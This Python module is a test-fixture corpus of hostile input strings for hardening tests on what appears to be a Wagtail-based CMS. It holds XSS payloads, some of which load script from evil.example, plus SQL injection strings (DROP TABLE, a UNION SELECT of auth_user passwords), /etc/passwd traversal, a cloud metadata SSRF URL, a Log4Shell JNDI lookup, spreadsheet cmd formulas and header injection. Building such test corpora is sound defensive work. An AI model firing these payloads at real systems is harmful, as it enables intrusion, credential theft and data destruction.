"""A corpus of hostile strings for every place a reader or editor types.

Markup payloads use recognisable markers so a test can tell an injected
element or handler from the page's own: the element ``<helix-x>``, the
attribute ``data-helix-x`` and the function ``helixPwned()``
(``tests.hardening.checks.assert_well_formed_and_inert`` looks for them).
``HOSTILE`` has a few hundred entries; ``HOSTILE_SAMPLE`` is a quick subset.
"""

from itertools import product

XSS = [
    "<script>helixPwned()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '"><script>helixPwned()</script>',
    "'><script>helixPwned()</script>",
    "</title><script>helixPwned()</script>",
    "</textarea><script>helixPwned()</script>",
    "</style><script>helixPwned()</script>",
    "</script><script>helixPwned()</script>",
    "<img src=x onerror=helixPwned()>",
    '<img src="x" onerror="helixPwned()" data-helix-x>',
    "<svg onload=helixPwned()>",
    "<svg><script>helixPwned()</script></svg>",
    "<body onload=helixPwned()>",
    "<iframe src=javascript:helixPwned()></iframe>",
    '<a href="javascript:helixPwned()">click</a>',
    '<a href="JaVaScRiPt:helixPwned()">click</a>',
    '<a href="&#106;avascript:helixPwned()">click</a>',
    '<a href="data:text/html,<script>helixPwned()</script>">x</a>',
    "<helix-x data-helix-x>injected</helix-x>",
    '" data-helix-x="1',
    "' data-helix-x='1",
    '" onmouseover="helixPwned()',
    "' onfocus='helixPwned()' autofocus='",
    "javascript:helixPwned()",
    "vbscript:helixPwned()",
    "<math><mtext><table><mglyph><style><img src=x onerror=helixPwned()>",
    '<noscript><p title="</noscript><img src=x onerror=helixPwned()>">',
    "<details open ontoggle=helixPwned()>",
    "<input autofocus onfocus=helixPwned()>",
    "<object data=javascript:helixPwned()>",
    "<embed src=javascript:helixPwned()>",
    "<form action=javascript:helixPwned()><button>go</button></form>",
    '<button formaction="javascript:helixPwned()">go</button>',
    "<base href=//evil.example/>",
    '<meta http-equiv="refresh" content="0;url=javascript:helixPwned()">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    '<div style="background:url(javascript:helixPwned())">',
    "{{ 7*7 }}",
    "{% debug %}",
    "{% load static %}{% static 'x' %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "<!--",
    "-->",
    "<![CDATA[<script>helixPwned()</script>]]>",
    "&lt;script&gt;helixPwned()&lt;/script&gt;",
    "%3Cscript%3EhelixPwned()%3C/script%3E",
    "\\u003cscript\\u003ehelixPwned()\\u003c/script\\u003e",
    "</script><helix-x>",
    '{"a": "</script><script>helixPwned()</script>"}',
]

SQL_ISH = [
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR ""="',
    "'; DROP TABLE wagtailcore_page; --",
    "1; SELECT pg_sleep(10); --",
    "1' AND SLEEP(10) AND '1'='1",
    "' UNION SELECT username, password FROM auth_user --",
    "admin'--",
    "%' AND 1=0 UNION ALL SELECT NULL --",
    "1 OR 1=1",
    "\\'; --",
    "') OR ('a'='a",
    "'||(SELECT version())||'",
    "$$ LANGUAGE plpgsql $$",
    "0x27",
    "%00",
    "%",
    "_",
    "\\",
    "' AND extractvalue(1, concat(0x7e, version())) --",
    "* ",
    "NOT",
    "AND OR",
    '"unterminated',
    "(((",
    "text:(unbalanced",
    "title:x OR",
]

CONTROL = [
    "\x00",
    "before\x00after",
    "\x01\x02\x03\x04\x05\x06\x07\x08",
    "tab\there",
    "line\nbreak",
    "carriage\rreturn",
    "\r\nHeader-Injection: yes",
    "\x0b vertical tab",
    "\x0c form feed",
    "\x1b[31mANSI red\x1b[0m",
    "\x7f delete",
    "\u0085 next line",
    "\u2028 line separator",
    "\u2029 paragraph separator",
    "\ufeff byte order mark",
    "\ufffe non-character",
    "\u200b zero width space",
    "\u200d zero width joiner",
    "\u00ad soft hyphen",
    "\ud7ff edge of BMP",
]

RTL_AND_UNICODE = [
    "\u202eevil.exe\u202dtxt.pdf",
    "\u202a\u202b\u202c\u202d\u202e",
    "\u2066\u2067\u2068\u2069",
    "مرحبا بالعالم",
    "שלום עולם",
    "English then עברית then English",
    "العلاج الجيني",
    "基因治疗",
    "遺伝子治療",
    "유전자 치료",
    "генная терапия",
    "Z̴̡̛̜͓̮̈́a̸̢̛͇͋l̷̨̛̖̈́g̵̨̛̙͌o̷̢̘̍",
    "ﷺ﷽",
    "𝕳𝖊𝖑𝖎𝖝",
    "𝓗𝓮𝓵𝓲𝔁",
    "ａｄｍｉｎ",
    "admіn",  # Cyrillic i
    "İstanbul ß ﬃ",
    "e\u0301 composed differently é",
    "\U0001f9ec\U0001f489\U0001f52c",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "\U0001f3f3\ufe0f\u200d\U0001f308",
    "\U0001f1ec\U0001f1e7",
    "👍🏽" * 10,
    "🧬" * 100,
    "\U000e0041 tag character",
]

PATHS_AND_FORMATS = [
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd%00.png",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "//evil.example",
    "https://evil.example/@helix",
    "mailto:x@example.org?bcc=everyone@example.org",
    "x@example.org\nBcc: everyone@example.org",
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-1+1",
    "NaN",
    "Infinity",
    "-0",
    "1e309",
    "99999999999999999999999999999999",
    "-9223372036854775809",
    "0.1+0.2",
    "true",
    "null",
    "None",
    "undefined",
    "[]",
    "{}",
    "__proto__",
    "constructor",
    "${jndi:ldap://evil.example/a}",
    "%s%s%s%s%n",
    "{0}{1}{__class__}",
    "AAAA%08x.%08x.%08x",
    "",
    " ",
    "   \t  ",
]

LONG = [
    "A" * 256,
    "A" * 1_000,
    "A" * 10_000,
    "A" * 100_000,
    "<" * 5_000,
    "&amp;" * 2_000,
    "é" * 5_000,
    "🧬" * 5_000,
    "word " * 5_000,
    "a/" * 2_000,
    "(" * 1_000 + ")" * 1_000,
    "<helix-x>" * 500,
]


def _combined() -> list[str]:
    """Pairs of short payloads: an escape in one context often needs a second trick."""
    heads = ["'", '"', "<", "</", "\\", "`", "\x00", "\u202e", "%27", "&#x27;"]
    tails = [
        "<helix-x>",
        " data-helix-x=1 ",
        "<script>helixPwned()</script>",
        " onerror=helixPwned() ",
        "javascript:helixPwned()",
        "' OR 1=1 --",
        "\r\n",
        "🧬",
        "{{ 7*7 }}",
        "%0d%0a",
    ]
    return [head + tail for head, tail in product(heads, tails)]


HOSTILE: list[str] = list(
    dict.fromkeys(
        XSS + SQL_ISH + CONTROL + RTL_AND_UNICODE + PATHS_AND_FORMATS + LONG + _combined()
    )
)

# One of each kind, for loops that are slow per string (admin forms, subprocesses).
HOSTILE_SAMPLE: list[str] = [
    XSS[0],
    XSS[9],
    XSS[18],
    XSS[19],
    SQL_ISH[3],
    CONTROL[1],
    CONTROL[6],
    RTL_AND_UNICODE[0],
    RTL_AND_UNICODE[19],
    PATHS_AND_FORMATS[0],
    LONG[2],
]
